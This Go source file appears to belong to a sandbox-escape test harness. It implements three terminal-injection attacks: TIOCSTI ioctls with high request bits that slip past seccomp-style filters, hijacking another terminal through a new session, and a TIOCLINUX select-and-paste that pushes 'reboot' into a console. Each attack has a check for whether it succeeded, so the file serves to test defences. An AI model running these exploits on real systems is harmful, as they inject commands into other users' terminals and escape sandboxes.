package adversary

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// high is set in a request beyond the 32 bits of it that the kernel looks at.
const high = 1 << 40

// injections: typing for others by other ways to the same requests.
var injections = []Case{
	{
		Name: "terminal_tiocsti_high", Family: "terminal", Source: "D54 CVE-2019-10063",
		What:  "pushes input into the terminal with high bits set in the request",
		Calls: "ioctl(TIOCSTI)",
		Needs: needsTerminal,
		Hooks: []string{"file_ioctl"}, Setup: ownTerminal,
		Attack: func(*Target) ([]byte, error) {
			for _, c := range []byte(injected) {
				_, _, errno := unix.Syscall(unix.SYS_IOCTL, 2, unix.TIOCSTI|high,
					uintptr(unsafe.Pointer(&c)))
				if errno != 0 {
					return nil, call("ioctl TIOCSTI", errno)
				}
			}
			return nil, nil
		},
		Judge: Judge{"input has arrived at the terminal outside", func(s *Scene) string {
			if strings.Contains(s.session.tty.input(), injected) {
				return "input arrived at the terminal outside"
			}
			return ""
		}},
	},
	{
		Name: "terminal_taken", Family: "terminal", Source: "D53 D55 bwrap#142",
		What: "makes another terminal of the user its own, in a new session, and pushes input " +
			"into it",
		Calls: "setsid, openat, ioctl(TIOCSTI)",
		Needs: needsTerminal,
		Hooks: []string{"file_open", "file_ioctl"}, Setup: otherTerminal,
		Attack: func(t *Target) ([]byte, error) {
			attr := &syscall.SysProcAttr{Setsid: true}
			return start(os.Args[0], attr, "typing", t.Args["tty"])
		},
		Judge: Judge{"input has arrived at another terminal", func(s *Scene) string {
			if strings.Contains(s.terminal.input(), injected) {
				return "input arrived at another terminal"
			}
			return ""
		}},
	},
	{
		Name: "terminal_tioclinux_high", Family: "terminal", Source: "D54 CVE-2023-28100",
		Root: true, Guest: true,
		What: "marks what a console shows and pastes it into that console's input, with high " +
			"bits set in the request",
		Calls: "ioctl(TIOCLINUX)",
		Needs: "a console",
		Hooks: []string{"file_open", "file_ioctl"}, Setup: showOnConsole, Attack: attackPaste,
		Judge: Judge{"input has arrived at the console", func(s *Scene) string {
			if strings.Contains(pending(s.terminal.slave), pasted) {
				return "input arrived at the console"
			}
			return ""
		}},
	},
}

// stepTyping opens a terminal, which thereby becomes its own, and types.
func stepTyping(args []string) ([]byte, error) {
	fd, err := unix.Open(args[0], unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, call("open", err)
	}
	return nil, inject(fd)
}

// pasted is what the console shows in its first line.
const pasted = "reboot"

// showOnConsole writes to the console that is in front, from which alone text is marked.
func showOnConsole(s *Scene) error {
	s.alone()
	const active = "/sys/class/tty/tty0/active"
	name, err := os.ReadFile(active)
	if err != nil {
		return fmt.Errorf("find the console: %w", err)
	}
	console := "/dev/" + strings.TrimSpace(string(name))
	s.Arg("console", console)
	fd, err := unix.Open(console, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", console, err)
	}
	s.terminal = &terminalPair{slave: os.NewFile(uintptr(fd), console), name: console}
	s.onClose(s.terminal.close)
	if err := rawMode(fd); err != nil {
		return call("set the console's mode", err)
	}
	pending(s.terminal.slave)
	_, err = s.terminal.slave.WriteString("\x1b[2J\x1b[1;1H" + pasted)
	return err
}

// attackPaste marks the beginning of the first line and pastes it.
func attackPaste(t *Target) ([]byte, error) {
	fd, err := unix.Open(t.Args["console"], unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, call("open", err)
	}
	defer unix.Close(fd)
	const setSelection, paste = 2, 3
	// The subcode, then first column and line, last column and line, and the mode.
	mark := []byte{setSelection, 1, 0, 1, 0, byte(len(pasted)), 0, 1, 0, 0, 0}
	for _, arg := range [][]byte{mark, {paste}} {
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCLINUX|high,
			uintptr(unsafe.Pointer(&arg[0])))
		if errno != 0 {
			return nil, call(fmt.Sprintf("ioctl TIOCLINUX %d", arg[0]), errno)
		}
	}
	return nil, nil
}
